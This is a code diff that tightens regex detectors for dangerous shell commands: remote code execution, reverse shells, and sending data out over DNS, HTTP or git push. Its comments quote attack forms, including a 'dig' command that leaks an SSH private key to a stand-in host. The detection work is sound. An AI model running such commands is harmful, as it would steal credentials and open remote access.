@@ -219,7 +219,7 @@ READ_VERBS = (
 
 HIGH_IMPACT_COMMAND = re.compile(
     r"\b(git\s+push|push\s+--force|deploy|publish|kubectl\s+(delete|apply|scale)|terraform\s+(apply|destroy)|"
-    r"rm\s+-[a-z]*r[a-z]*|git\s+clean\s+-[a-z]*f[a-z]*|git\s+reset\s+--hard|drop\s+(table|database)|truncate\s+table|chmod\s+-r|curl\b[^|]*\|\s*(ba)?sh|"
+    r"rm\s+-[a-z]*r[a-z]*|git\s+clean\s+-[a-z]*f[a-z]*|git\s+reset\s+--hard|drop\s+(table|database)|truncate\s+table|chmod\s+-r|curl\b[^|\n]{0,300}\|\s{0,4}(ba)?sh|"
     r"shutdown|mkfs|npm\s+publish|pip\s+install\s+https?://)\b",
     _I,
 )
@@ -230,8 +230,26 @@ DESTRUCTIVE = re.compile(
     _I,
 )
 
+#: Remote code or a remote shell: a download piped to a shell, the environment piped to the
+#: network, a reverse shell (``nc -e``, ``bash -i >& /dev/tcp/...``, ``socat ... exec:``).
+#: Bounded gaps: linear on a crafted 100 KB command (issue 10).
 REMOTE_EXEC = re.compile(
-    r"\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(ba|z)?sh\b|\benv\b[^|]*\|\s*(curl|nc|wget)\b|\bnc\s+-e\b",
+    r"\b(curl|wget)\b[^|;&\n]{0,300}\|\s{0,4}(sudo\s{1,4})?(ba|z|da|k)?sh\b"
+    r"|\benv\b[^|\n]{0,300}\|\s{0,4}(curl|nc|ncat|wget)\b"
+    r"|\b(nc|ncat|netcat)\b[^|;&\n]{0,100}\s-[ec]\s"
+    r"|/dev/(tcp|udp)/|\b(ba|z)?sh\s{1,4}-i\b|\bsocat\b[^\n]{0,200}\bexec:",
+    _I,
+)
+
+#: A shell command that sends data outside: a secret spliced into a DNS name or URL
+#: (``dig $(cat ~/.ssh/id_rsa | base64).x.test``), a file piped or posted to the network,
+#: a push to a git remote other than ``origin``/``upstream``. Bounded gaps (linear).
+OUTBOUND_COMMAND = re.compile(
+    r"\b(dig|nslookup|host|ping|curl|wget|nc|ncat)\b[^\n;&|]{0,200}(\$\(|`)"
+    r"|\|\s{0,4}(curl|nc|ncat|netcat|wget)\b"
+    r"|\b(curl|wget)\b[^\n|;&]{0,300}\s(-d|--data[\w-]{0,8}|-F|--form|-T|--upload-file|"
+    r"--post-(data|file))\b"
+    r"|\bgit\s{1,4}push\s{1,4}(-{1,2}[\w-]{1,20}\s{1,4}){0,4}(?!(origin|upstream)\b|-)[\w.:/@~]",
     _I,
 )
 
